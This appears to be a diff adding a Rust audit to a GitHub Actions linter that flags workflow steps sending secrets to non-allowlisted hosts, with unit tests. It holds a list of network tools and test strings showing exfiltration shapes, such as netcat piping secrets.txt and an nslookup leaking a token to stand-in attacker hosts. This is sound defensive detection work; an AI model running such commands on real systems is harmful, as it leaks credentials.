@@ -0,0 +1,305 @@
+//! Detects `run:` steps that both use secrets and make outbound network
+//! requests, which is a common shape for secret exfiltration.
+//!
+//! This is a heuristic: plenty of legitimate steps send secrets over the
+//! network (e.g. to authenticate to a deployment target). As such, it's
+//! an auditor-only audit, and hosts that are expected to receive secrets
+//! can be allowlisted.
+
+use std::sync::LazyLock;
+
+use github_actions_models::common::expr::LoE;
+use regex::Regex;
+use serde::Deserialize;
+
+use super::{audit_meta, Audit};
+use crate::{
+    finding::{Confidence, Persona, Severity, SymbolicLocation},
+    models::{StepBodyCommon, StepCommon},
+    state::AuditState,
+    utils::secret_contexts,
+};
+
+/// Commands that make outbound network requests.
+const EGRESS_COMMANDS: &[&str] = &[
+    "curl", "dig", "host", "nc", "ncat", "netcat", "nslookup", "wget",
+];
+
+/// Commands that take the remote host as a positional argument.
+const HOST_ARGUMENT_COMMANDS: &[&str] = &["dig", "host", "nc", "ncat", "netcat", "nslookup"];
+
+/// Hosts that are always allowed to receive secrets, along with their
+/// subdomains.
+const DEFAULT_ALLOWED_HOSTS: &[&str] = &["github.com", "githubusercontent.com"];
+
+/// Matches the host of a URL, e.g. `example.com` in `https://user@example.com:8080/`.
+static URL_HOST: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\b[A-Za-z][A-Za-z0-9+.-]*://(?:[^@/\s]*@)?(?<host>[A-Za-z0-9.-]+)").unwrap()
+});
+
+/// Matches a shell variable assignment word, e.g. `FOO=bar`.
+static ASSIGNMENT: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"^[A-Za-z_][A-Za-z0-9_]*\+?=").unwrap());
+
+/// Audit-specific settings, under `rules.secret-exfiltration.config`.
+#[derive(Default, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+struct SecretExfiltrationConfig {
+    /// Additional hosts to allow, along with their subdomains.
+    #[serde(default)]
+    allowed_hosts: Vec<String>,
+}
+
+pub(crate) struct SecretExfiltration {
+    allowed_hosts: Vec<String>,
+}
+
+audit_meta!(
+    SecretExfiltration,
+    "secret-exfiltration",
+    "secret used in a step with outbound network access",
+    rationale = "
+        Flags run: steps that use secrets and also make outbound network requests
+        (e.g. with curl, wget, nc, or DNS lookups) to hosts that aren't
+        allowlisted.
+
+        This is a common shape for exfiltrating secrets from a workflow, e.g. after
+        a malicious change to a script or a compromised dependency.
+
+        Findings are medium severity with low confidence, since many steps send
+        secrets to legitimate services. They're only shown with the auditor
+        persona. Hosts that are expected to receive secrets can be configured
+        under rules.secret-exfiltration.config.
+    ",
+    example = r#"
+        steps:
+          - run: curl -d "token=${{ secrets.DEPLOY_TOKEN }}" https://example.com
+    "#,
+    remediation = "
+        Make sure that the step only sends secrets to hosts that need them. If the
+        host is expected, add it to allowed-hosts under
+        rules.secret-exfiltration.config.
+    ",
+);
+
+impl SecretExfiltration {
+    /// Returns the host of each outbound network request in `script`.
+    ///
+    /// A `None` host means that the request's host couldn't be determined,
+    /// e.g. because it's in a variable.
+    fn egress_hosts(script: &str) -> Vec<Option<String>> {
+        let mut hosts = vec![];
+
+        // This is a coarse approximation of shell command splitting,
+        // which is fine for finding command words.
+        let script = script.replace("\\\n", " ");
+        for command in script.split(['\n', ';', '|', '&', '(', ')', '`']) {
+            let mut words = command
+                .split_whitespace()
+                .skip_while(|word| ASSIGNMENT.is_match(word) || *word == "sudo");
+
+            let Some(name) = words
+                .next()
+                .map(|word| word.rsplit('/').next().unwrap_or(word))
+            else {
+                continue;
+            };
+
+            if !EGRESS_COMMANDS.contains(&name) {
+                continue;
+            }
+
+            let mut command_hosts = URL_HOST
+                .captures_iter(command)
+                .map(|c| Some(c["host"].to_ascii_lowercase()))
+                .collect::<Vec<_>>();
+
+            if command_hosts.is_empty() && HOST_ARGUMENT_COMMANDS.contains(&name) {
+                command_hosts.extend(
+                    words
+                        // Options may take values (e.g. `nc -w 5 host`), so
+                        // only words that look like hostnames or IPs count.
+                        .find(|word| !word.starts_with('-') && word.contains('.'))
+                        .map(|word| word.trim_start_matches('@'))
+                        .filter(|word| !word.contains(['$', '"', '\'']))
+                        .map(|word| Some(word.to_ascii_lowercase())),
+                );
+            }
+
+            if command_hosts.is_empty() {
+                command_hosts.push(None);
+            }
+
+            hosts.extend(command_hosts);
+        }
+
+        hosts
+    }
+
+    /// Returns whether `host` is allowlisted, either directly or as
+    /// a subdomain of an allowlisted host.
+    fn is_allowed(&self, host: &str) -> bool {
+        self.allowed_hosts.iter().any(|allowed| {
+            host == allowed
+                || host
+                    .strip_suffix(allowed.as_str())
+                    .is_some_and(|prefix| prefix.ends_with('.'))
+        })
+    }
+
+    /// Returns an annotated location for each secret that's used in
+    /// a step that makes outbound network requests to a non-allowlisted host.
+    fn exfiltration_locations<'s>(&self, step: &impl StepCommon<'s>) -> Vec<SymbolicLocation<'s>> {
+        let StepBodyCommon::Run { run, env, .. } = step.body() else {
+            return vec![];
+        };
+
+        let Some(host) = Self::egress_hosts(run)
+            .into_iter()
+            .find(|host| !host.as_deref().is_some_and(|host| self.is_allowed(host)))
+        else {
+            return vec![];
+        };
+
+        let host = match host {
+            Some(host) => host,
+            None => "an unknown host".into(),
+        };
+
+        let mut secrets = secret_contexts(run);
+        if let LoE::Literal(env) = env {
+            for value in env.values() {
+                secrets.extend(secret_contexts(&value.to_string()));
+            }
+        }
+
+        secrets
+            .into_iter()
+            .map(|secret| {
+                step.location()
+                    .with_keys(&["run".into()])
+                    .annotated(format!("{secret} may be sent to {host}"))
+            })
+            .collect()
+    }
+}
+
+impl Audit for SecretExfiltration {
+    fn new(state: AuditState) -> anyhow::Result<Self>
+    where
+        Self: Sized,
+    {
+        let config = state
+            .config
+            .rule_config::<SecretExfiltrationConfig>(Self::ident())?
+            .unwrap_or_default();
+
+        let allowed_hosts = DEFAULT_ALLOWED_HOSTS
+            .iter()
+            .map(|host| host.to_string())
+            .chain(config.allowed_hosts)
+            .map(|host| host.to_ascii_lowercase())
+            .collect();
+
+        Ok(Self { allowed_hosts })
+    }
+
+    fn audit_step<'w>(&self, step: &super::Step<'w>) -> anyhow::Result<Vec<super::Finding<'w>>> {
+        let mut findings = vec![];
+
+        for location in self.exfiltration_locations(step) {
+            findings.push(
+                Self::finding()
+                    .severity(Severity::Medium)
+                    .confidence(Confidence::Low)
+                    .persona(Persona::Auditor)
+                    .add_location(step.location_with_name())
+                    .add_location(location.primary())
+                    .build(step.workflow())?,
+            );
+        }
+
+        Ok(findings)
+    }
+
+    fn audit_composite_step<'a>(
+        &self,
+        step: &super::CompositeStep<'a>,
+    ) -> anyhow::Result<Vec<super::Finding<'a>>> {
+        let mut findings = vec![];
+
+        for location in self.exfiltration_locations(step) {
+            findings.push(
+                Self::finding()
+                    .severity(Severity::Medium)
+                    .confidence(Confidence::Low)
+                    .persona(Persona::Auditor)
+                    .add_location(step.location_with_name())
+                    .add_location(location.primary())
+                    .build(step.action())?,
+            );
+        }
+
+        Ok(findings)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::SecretExfiltration;
+
+    #[test]
+    fn test_egress_hosts() {
+        for (script, expected) in &[
+            ("echo hello", vec![]),
+            ("curl https://example.com/upload", vec![Some("example.com")]),
+            (
+                "FOO=bar sudo /usr/bin/wget -q http://user@Example.COM:8080/x",
+                vec![Some("example.com")],
+            ),
+            ("curl \"$URL\"", vec![None]),
+            (
+                "make build && curl -sSf https://api.github.com/repos | jq .",
+                vec![Some("api.github.com")],
+            ),
+            ("nslookup $(cat token).evil.example", vec![None]),
+            (
+                "dig @1.1.1.1 -t txt attacker.example",
+                vec![Some("1.1.1.1")],
+            ),
+            (
+                "nc -q 1 attacker.example 4444 < secrets.txt",
+                vec![Some("attacker.example")],
+            ),
+            (
+                "curl \\\n  --data @payload \\\n  https://example.com",
+                vec![Some("example.com")],
+            ),
+            // Mentions of commands that aren't command words.
+            ("echo curl https://example.com", vec![]),
+        ] {
+            let expected = expected
+                .iter()
+                .map(|host| host.map(|h| h.to_string()))
+                .collect::<Vec<_>>();
+            assert_eq!(
+                SecretExfiltration::egress_hosts(script),
+                expected,
+                "failed: {script}"
+            );
+        }
+    }
+
+    #[test]
+    fn test_is_allowed() {
+        let audit = SecretExfiltration {
+            allowed_hosts: vec!["github.com".into(), "example.com".into()],
+        };
+
+        assert!(audit.is_allowed("github.com"));
+        assert!(audit.is_allowed("api.github.com"));
+        assert!(audit.is_allowed("uploads.example.com"));
+        assert!(!audit.is_allowed("notgithub.com"));
+        assert!(!audit.is_allowed("github.com.evil.example"));
+    }
+}